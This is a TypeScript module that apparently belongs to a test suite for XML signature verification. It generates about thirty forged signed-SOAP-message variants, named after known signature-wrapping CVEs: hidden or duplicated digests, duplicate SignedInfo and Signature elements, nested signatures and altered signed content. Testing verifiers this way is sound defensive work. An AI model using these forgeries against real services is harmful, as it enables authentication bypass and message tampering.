import { child, elements, type XmlComment, type XmlElement } from '@holdfast/soap';
import { DS, ds } from '../../namespaces.js';
import { type AttackFamily, type Draft, EVIL } from './attack.js';
import { after, append, before, by, content, prepend } from './edit.js';
import { digestOf, resealed } from './reseal.js';
import { node, nodes, withoutId } from './secured-message.js';
import { unlisted } from './stripping.js';

const comment = (text: string): XmlComment => ({ kind: 'comment', text });

/**
 * Values that two readers of one document take for two different ones: a digest in a comment (CVE-2025-29775 and its
 * kin), two SignedInfos (CVE-2025-29774), two of anything else, a key in KeyInfo that is believed (CVE-2024-32962).
 */
export const splitting: AttackFamily = function* (message, options) {
  const { signature, signedInfo, keyInfo, body } = message;
  const part = message.signed.find(({ element }) => element === body) ?? message.signed[0];
  const digest = part && child(part.reference, ds('DigestValue'));
  const value = signature && child(signature, ds('SignatureValue'));
  if (signature === undefined || signedInfo === undefined || part === undefined || digest === undefined) return;
  const { element, reference } = part;
  const forged = {
    ...withoutId(element),
    attributes: element.attributes,
    children: nodes(options.body ?? EVIL),
  };
  const bad = digestOf(forged, reference);
  const evil = [element, by(forged)] as const;
  const gone = unlisted(message, element);
  const draft = (what: string, about: string, result: XmlElement): Draft => ({
    name: `splitting/${what}`,
    about,
    result,
  });
  const inside = (what: string, about: string, ...children: readonly (XmlElement | XmlComment | string)[]): Draft =>
    draft(what, about, message.with(evil, ...gone, [digest, content(...children)]));
  const good = digest.children.filter((each) => typeof each === 'string').join('');
  const badValue = node(`<ds:DigestValue xmlns:ds="${DS}">${bad}</ds:DigestValue>`);

  yield inside(
    'digest-in-comment-first',
    'The digest of a forged part stands in a comment before the good one.',
    comment(bad),
    good,
  );
  yield inside(
    'digest-in-comment-last',
    'The digest of a forged part stands in a comment after the good one.',
    good,
    comment(bad),
  );
  yield inside(
    'digest-after-comment',
    'A comment splits the good digest.',
    good.slice(0, 5),
    comment(bad),
    good.slice(5),
  );
  yield inside('digest-appended', 'The digest of a forged part follows the good one.', good, ` ${bad}`);
  yield inside('digest-prepended', 'The digest of a forged part stands before the good one.', `${bad} `, good);
  yield inside(
    'digest-in-element',
    'The digest of a forged part stands in an element within.',
    node(`<x:D xmlns:x="urn:x">${bad}</x:D>`),
    good,
  );
  yield inside(
    'digest-replaced',
    'The digest is replaced by that of the forged part; the signature is as it was.',
    bad,
  );
  yield draft(
    'two-digests-first',
    'Two DigestValues: that of a forged part first.',
    resealed(message.with(evil, ...gone, [digest, before(badValue)]), options, 'all'),
  );
  yield draft(
    'two-digests-last',
    'Two DigestValues: that of a forged part last.',
    resealed(message.with(evil, ...gone, [digest, after(badValue)]), options, 'all'),
  );
  yield draft(
    'digest-of-other-namespace',
    'A DigestValue of another namespace stands before the good one.',
    message.with(evil, ...gone, [digest, before(node(`<x:DigestValue xmlns:x="urn:x">${bad}</x:DigestValue>`))]),
  );

  const badInfo = forgedInfo(signedInfo, digest, bad);
  yield draft(
    'two-signed-infos-first',
    'A SignedInfo over a forged part stands before the good one.',
    message.with(evil, ...gone, [signedInfo, before(badInfo)]),
  );
  yield draft(
    'two-signed-infos-last',
    'A SignedInfo over a forged part follows the good one.',
    message.with(evil, ...gone, [signedInfo, after(badInfo)]),
  );
  yield draft(
    'signed-info-in-object',
    'The good SignedInfo is in an Object, one over a forged part in its place.',
    message.with(
      evil,
      ...gone,
      [signedInfo, by(badInfo)],
      [signature, append({ ...node(`<ds:Object xmlns:ds="${DS}"/>`), children: [signedInfo] })],
    ),
  );
  yield draft(
    'signed-info-in-signed-info',
    'The good SignedInfo stands within one over a forged part.',
    message.with(evil, ...gone, [signedInfo, by({ ...badInfo, children: [...badInfo.children, signedInfo] })]),
  );
  yield draft(
    'signed-info-in-key-info',
    'The good SignedInfo is in KeyInfo, one over a forged part in its place.',
    message.with(evil, ...gone, [signedInfo, by(badInfo)], [keyInfo, append(signedInfo)]),
  );
  yield draft(
    'signature-in-signature',
    'The good Signature stands within one over a forged part.',
    message.with(evil, ...gone, [
      signature,
      by({ ...withoutId(signature), children: [badInfo, ...elements(signature).slice(1), signature] }),
    ]),
  );
  yield draft(
    'signature-in-object',
    'The good Signature is in the Object of a forged one.',
    message.with(evil, ...gone, [
      signature,
      by({
        ...withoutId(signature),
        children: [
          badInfo,
          ...elements(signature).slice(1),
          { ...node(`<ds:Object xmlns:ds="${DS}"/>`), children: [signature] },
        ],
      }),
    ]),
  );
  yield draft(
    'two-signatures-first',
    'A Signature over a forged part stands before the good one.',
    message.with(evil, ...gone, [
      signature,
      before({ ...withoutId(signature), children: [badInfo, ...elements(signature).slice(1)] }),
    ]),
  );
  yield draft(
    'two-signatures-last',
    'A Signature over a forged part follows the good one.',
    message.with(evil, ...gone, [
      signature,
      after({ ...withoutId(signature), children: [badInfo, ...elements(signature).slice(1)] }),
    ]),
  );
  if (value !== undefined) {
    yield draft(
      'two-values-first',
      'An empty SignatureValue stands before the good one.',
      message.with(evil, ...gone, [value, before({ ...value, children: [] })]),
    );
    yield draft(
      'two-values-last',
      'An empty SignatureValue follows the good one.',
      message.with([value, after({ ...value, children: [] })]),
    );
    yield draft(
      'value-in-comment',
      'The SignatureValue is a comment.',
      message.with([value, (of) => [{ ...of, children: [comment('good')] }]]),
    );
  }
  if (keyInfo !== undefined) {
    yield draft('two-key-infos', 'Two KeyInfos are given.', message.with([keyInfo, (of) => [of, of]]));
    yield draft(
      'key-info-twice-in-one',
      'KeyInfo names the key twice.',
      message.with([keyInfo, (of) => [{ ...of, children: [...of.children, ...of.children] }]]),
    );
  }
  const strange = node('<x:Y xmlns:x="urn:attacker"/>');
  yield draft(
    'comment-in-body',
    'The content of the signed part is put into a comment.',
    message.with([element, content(comment('gone'))]),
  );
  yield draft(
    'element-prepended',
    'An element is put before the content of the signed part.',
    message.with([element, prepend(strange)]),
  );
  yield draft(
    'attribute-added',
    'An attribute is added to the signed part.',
    message.with([
      element,
      (of) => [{ ...of, attributes: [...of.attributes, { prefix: '', namespace: '', local: 'evil', value: '1' }] }],
    ]),
  );
  yield draft('text-appended', 'Text is appended to the signed part.', message.with([element, append('evil')]));
  yield draft(
    'white-space-appended',
    'White space is appended to the signed part.',
    message.with([element, append(' ')]),
  );
};

/** SignedInfo with the digest of the forged part. */
function forgedInfo(info: XmlElement, digest: XmlElement, bad: string): XmlElement {
  const replaced = (of: XmlElement): XmlElement => ({
    ...of,
    children: of === digest ? [bad] : of.children.map((each) => (isTree(each) ? replaced(each) : each)),
  });
  return replaced(info);
}

function isTree(each: XmlElement | XmlComment | string): each is XmlElement {
  return typeof each === 'object' && each.kind === 'element';
}
